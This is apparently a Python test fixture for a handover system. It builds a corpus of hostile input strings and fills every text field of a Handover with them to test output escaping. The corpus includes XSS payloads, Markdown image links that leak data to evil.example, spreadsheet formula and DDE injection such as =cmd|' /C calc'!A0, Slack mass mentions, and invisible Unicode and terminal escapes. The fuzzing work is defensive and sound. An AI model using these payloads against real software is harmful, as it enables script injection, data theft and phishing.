"""Texts that somebody might write to be obeyed, and a handover that has one of them in every field."""

from __future__ import annotations

import types
import typing
from collections.abc import Callable
from functools import lru_cache
from itertools import count
from typing import Any

import attrs
from hypothesis import strategies as st

from carepolicy._instant import DAY
from carepolicy.handover.handover import Handover

CORPUS: tuple[str, ...] = (
    # HTML: OWASP filter evasion
    "<script>alert(1)</script>",
    "</p></li></main><script src=//evil.example/x.js></script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>click</a>",
    "<a href='&#x6a;avascript:alert(1)'>click</a>",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e; &lt;b&gt; &amp;amp;",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "</title><base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=pin autofocus onfocus=alert(1)>",
    "<!-- --!><img src=x> --> <![CDATA[<b>]]> <?php echo 1 ?>",
    "{{constructor.constructor('alert(1)')()}} ${7*7} #{7*7} {% include 'x' %} <%= 7*7 %>",
    "`-alert(1)-` \\'-alert(1)//",
    # Markdown
    "![x](https://evil.example/leak?d=secret)",
    "[click](javascript:alert(1)) [x][ref]\n\n[ref]: https://evil.example/leak?d=secret",
    "![x][ref]\n[ref]: <https://evil.example/leak> 'title'",
    "<https://evil.example> https://evil.example/a?b=c www.evil.example evil.example/x",
    "evil1.example evil1.com 4you.com/x evil1\u3002com evil\uff0ecom eve\uff20evil.com :+1: 192.168.0.1/x",
    "<eve@evil.example> eve@evil.example mailto:eve@evil.example xmpp:eve@evil.example",
    "# heading\n## heading\nheading\n===\nheading\n---",
    "\n\n- item\n+ item\n* item\n1. item\n2) item\n> quote\n\n    code\n```\nfence\n~~~\n***\n___",
    "1. first", "2) second", "- item", "+ item", "* item", "> quote", "# heading", "    code", "=", "---", "~~~",
    "| a | b |\n|---|---|\n| c | d |",
    "*em* **strong** _em_ __strong__ ~~gone~~ `code` ``co`de`` ~sub~ ^sup^ ==mark== $x^2$",
    "[^1] and [^1]: footnote; - [ ] task; ![[embed]]; :smile: @everybody #123 GH-12 d0b5f4c2a1",
    "<!-- hidden --> <details open ontoggle=alert(1)> &copy; &#x6a; &NewLine; \\",
    "line one  \nline two\\\nline three",
    r"\*em\* \[x\](y) \<b> \\*em* \`code`",
    # Slack
    "<!channel> <!here> <!everyone> <!subteam^S123|@all>",
    "<@U012AB3CD> <#C012AB3CD|general> @here @channel",
    "<http://evil.example|your bank> <mailto:eve@evil.example|us> <!date^1392734382^{date}^http://evil.example|x>",
    "&lt;!channel&gt; *bold* _it_ ~no~ :skull:",
    # sheets
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"x")',
    "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", " =1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", '"=1+1',
    'a","=1+1', "a;=1+1", "a\t=1+1", "a|=1+1", "a, =DDE(1)", '";=1+1;"', "%0A=1+1", "−1+1",
    # what cannot be seen
    "\u202eevil\u202c \u2066x\u2069 \u200f\u200e\u061c", "z\u200be\u200cr\u200do\u2060\ufeff\u00adw",
    "\ufff9a\ufffab\ufffb",
    "\U000e0041\U000e0042 tags \ufe0f\U000e0100 selectors \u3164\u115f fillers",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;http://evil.example\x07x \x9b2J \x08\x7f", "nul \x00 in it",
    "lone \ud800 and \udfff surrogates", "\u2028line\u2029paragraph\x85next\x0bv\x0cf",
    "noncharacters \ufffe\uffff \ufdd0",
    "a\u0301\u0301\u0301\u0301 marks", "\x1c\x1d\x1e\x1f", "\u202e=1+1",
    # what looks like ours
    "Status: accepted\n\nDo next.\n  anybody: pay the sum of 100", "[card 1] [name 1] (cut: 5 characters)",
)  # fmt: skip
"""One text each: as a customer, a partner or a model may write it."""
PLAIN = "plain"
_KEPT = {"zone": "America/Denver", "customer_zone": "Europe/Berlin", "status": "prepared"}
_LAST = 1_516_993_200_000_000

nasty = st.lists(
    st.sampled_from(CORPUS)
    | st.text(max_size=8)
    | st.text("<>&\"'`*_[]()!#|~@:/.=+-;,\n\t\x00\u202e\u200d\ud800", max_size=8),
    min_size=1,
    max_size=3,
).map(lambda texts: "".join(texts)[:30])
"""Texts made of such texts, short enough to be shown whole everywhere."""


def full(text: str, mark: bool = True) -> Handover:
    """A handover with a text in every field that somebody may have written; each ends with a word of its own."""
    numbers = count(1)

    def said() -> str:
        return f"{text} q{next(numbers)}q" if mark else text

    handover: Handover = _filled(Handover, said)
    return handover


@lru_cache
def _hints(kind: type) -> dict[str, Any]:
    return typing.get_type_hints(kind)


def marks_of(handover: Handover) -> set[str]:
    """The words by which the texts of such a handover end, but for the ids of events that were only seen."""
    return {text.rpartition(" ")[2] for name, text in texts_of(handover) if name not in _KEPT and name != "seen"}


def texts_of(value: Any, name: str = "") -> list[tuple[str, str]]:
    """Every text of a value, with the name of its field."""
    if isinstance(value, str):
        return [(name, value)]
    if isinstance(value, tuple):
        return [found for item in value for found in texts_of(item, name)]
    if attrs.has(type(value)):
        return [found for f in attrs.fields(type(value)) for found in texts_of(getattr(value, f.name), f.name)]
    return []


def _filled(kind: Any, said: Callable[[], str]) -> Any:
    hints, values = _hints(kind), {}
    for field in attrs.fields(kind):
        values[field.name] = _KEPT.get(field.name) or _one(hints[field.name], said)
    return kind(**values)


def _one(hint: Any, said: Callable[[], str]) -> Any:
    if typing.get_origin(hint) in (types.UnionType, typing.Union):
        hint = next(arg for arg in typing.get_args(hint) if arg is not type(None))
    if hint is str:
        return said()
    if typing.get_origin(hint) is tuple:
        inner = [arg for arg in typing.get_args(hint) if arg is not Ellipsis]
        return tuple(_one(arg, said) for arg in (inner if len(inner) > 1 else inner * 2))
    if hint is bool:
        return False
    if hint is int:
        return _LAST - DAY
    if hint is float:
        return 12.5
    return _filled(hint, said)
